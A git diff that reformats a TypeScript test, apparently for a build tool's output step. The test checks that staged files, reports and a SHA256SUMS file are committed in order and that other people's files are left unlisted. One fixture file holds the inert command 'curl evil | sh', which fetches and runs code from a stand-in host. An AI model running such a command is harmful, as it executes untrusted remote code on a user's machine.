@@ -121,7 +121,7 @@ describe('within the command: the staged view', () => {
 });
 
 describe('the commit: one swap, SHA256SUMS last and once', () => {
-  it('moves every staged file in, the reports after the files, SHA256SUMS once and last; strangers\' files stay, unlisted', async () => {
+  it("moves every staged file in, the reports after the files, SHA256SUMS once and last; strangers' files stay, unlisted", async () => {
     const { dir, report } = await committedOutDir();
     await writeFile(path.join(dir, 'hello-1.0.0.dkms.tar.gz'), 'a stale full tarball');
     const events: string[] = [];
@@ -139,7 +139,10 @@ describe('the commit: one swap, SHA256SUMS last and once', () => {
     expect(events.filter((e) => e === 'report.json')).toEqual(['report.json']);
     expect(events.at(-1)).toBe('SHA256SUMS');
     expect(events.indexOf('report.json')).toBeGreaterThan(events.indexOf(TARBALL));
-    const sums = (await readFile(path.join(dir, 'SHA256SUMS'), 'utf8')).trim().split('\n').map((l) => l.split('  ')[1]);
+    const sums = (await readFile(path.join(dir, 'SHA256SUMS'), 'utf8'))
+      .trim()
+      .split('\n')
+      .map((l) => l.split('  ')[1]);
     expect(sums).toEqual(['junit.xml', TARBALL, 'kmm/new.oci.tar', 'report.html', 'report.json'].sort());
     expect(await readFile(path.join(dir, 'stranger.sh'), 'utf8')).toBe('curl evil | sh');
     expect((await readdir(dir)).sort()).toEqual(['SHA256SUMS', TARBALL, 'junit.xml', 'kmm', 'logs', 'report.html', 'report.json', 'stranger.sh'].sort());
